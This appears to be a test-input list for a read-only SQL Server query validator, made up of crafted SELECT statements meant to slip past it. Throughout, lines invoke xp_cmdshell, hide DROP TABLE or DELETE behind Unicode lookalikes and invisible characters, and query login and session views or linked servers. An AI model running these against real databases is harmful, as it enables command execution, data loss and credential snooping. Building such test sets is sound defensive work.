/* SELECT 1 */ SELECT /* ; */ dbo.xp_cmdshell('dir') -- SELECT 1
SELECT * FROM xp_cmdshell('dir');
SELECT
  sp_who()
SELECT %%physloc%% FROM dbo.t
( SELECT %%lockres%% FROM dbo.t )
SeLeCt {Fn nOw()}
SELECT/**/{d/**/'2026-01-01'}
SELECT	1	{call	sp_who}
/* SELECT 1 */ {call /* ; */ sp_who} -- SELECT 1
{? = call sp_who};
SELECT
  $1.50
SELECT £5
( SELECT 1EXEC )
SeLeCt 1DeLeTe fRoM DbO.T
SELECT	"never	ends
/* SELECT 1 */ SELECT /* ; */ [never /* ; */ ends -- SELECT 1
SELECT [] FROM dbo.t
( SELECT "" FROM dbo.t )
select a from dbo.t where a = \'x\'
SELECT/**/`a`/**/FROM/**/dbo.t
label: SELECT 1
( SELECT a: FROM dbo.t )
SELECT a FROM dbo.t ＳＨＵＴＤＯＷＮ ; DROP TABLE dbo.t
SELECT a FROM dbo.t；DROP TABLE dbo.t
SELECT a FROM dbo.t DELETE FROM dbo.t
SELECT a FROM dbo.t　DELETE FROM dbo.t
SELECT ʼxʼ; DELETE FROM dbo.t
SELECT a FROM dbo.t WHERE b = ’x’ DROP TABLE dbo.t
SELECT a FROM dbo.t ​DELETE FROM dbo.t
﻿DELETE FROM dbo.t
SELECT a FROM dbo.t  DELETE FROM dbo.t
SELECT * FROM [sys].[dm_exec_sessions]
SELECT * FROM "sys"."dm_exec_sessions"
SELECT * FROM [SYS] . [DM_EXEC_SESSIONS]
SELECT * FROM [OPENROWSET](BULK 'x', SINGLE_BLOB) x
SELECT * FROM "OPENQUERY"(a, 'b')
SELECT * FROM [other].[dbo].[t]
SELECT * FROM [linked].[other].[dbo].[t]
SELECT * FROM "linked" . "other" . "dbo" . "t"
SELECT [SERVERPROPERTY]('x')
SELECT [xp_cmdshell]('dir')
SELECT * FROM dbo.t WITH ([TABLOCKX])
SELECT * FROM dbo.t ([UPDLOCK])
SELECT * FROM [sysprocesses]
SELECT * FROM [dbo].[SysLogins]
SELECT N/**/EXT VALUE FOR dbo.s; DELETE FROM dbo.t
SELECT NEXT	VALUE	FOR	dbo.s
SELECT next/* */value/* */for s
SELECT * FROM ｓｙｓ.dm_exec_sessions
SELECT * FROM [ＳＹＳ].[server_principals]
SELECT name FROM [sys ].sql_logins
SELECT * FROM [s​ys].dm_exec_connections
SELECT * FROM ſys.sql_logins
SELECT [host_name ](), ｓuser_sname(1)
